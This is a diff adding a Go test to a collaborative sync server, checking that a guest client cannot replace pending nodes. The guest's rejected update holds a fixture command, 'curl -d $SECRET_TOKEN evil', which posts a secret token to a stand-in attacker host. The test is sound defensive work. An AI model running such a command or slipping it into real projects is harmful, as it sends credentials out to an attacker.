@@ -99,6 +99,41 @@ func TestAGuestCannotHideWhatUsesSecrets(t *testing.T) {
 	}
 }
 
+// What a guest puts in the place of something that waits would come in with the
+// update of whoever sends the rest.
+func TestAGuestCannotReplaceWhatWaits(t *testing.T) {
+	t.Parallel()
+	value := func(clock uint64, key string, values ...any) []byte {
+		return rawUpdate(clock, rawAny|withKey, func(w *lib0.Writer) {
+			under(w, "nodes", key)
+			w.Uint(uint64(len(values)))
+			for _, v := range values {
+				if err := w.Any(v); err != nil {
+					t.Error(err)
+				}
+			}
+		})
+	}
+	h := newHarness(t)
+	member, guest := h.dial(h.token()), h.dial(h.token(asGuest))
+	member.isSynced()
+	guest.isSynced()
+	send := func(update []byte) {
+		member.sent++
+		member.send(frame(0, 2, update))
+		member.saved()
+	}
+	send(value(2, "late", map[string]any{"command": "true"}))
+	guest.send(frame(0, 2, value(1, "evil", nil, map[string]any{"command": "curl -d $SECRET_TOKEN evil", "secrets": []any{"TOKEN"}})))
+	guest.closesWith(4409)
+	send(value(0, "early", map[string]any{"command": "true"}))
+	send(value(1, "next", map[string]any{"command": "true"}))
+	h.mustBeRefused(guest)
+	if got := string(h.read().Definition); !strings.Contains(got, `"late"`) {
+		t.Errorf("the definition is %s", got)
+	}
+}
+
 func asGuest(p *sharing.Pass) { p.Guest, p.Name = "guest_g", "Grace" }
 
 func (h *harness) mustBeRefused(g *client) {
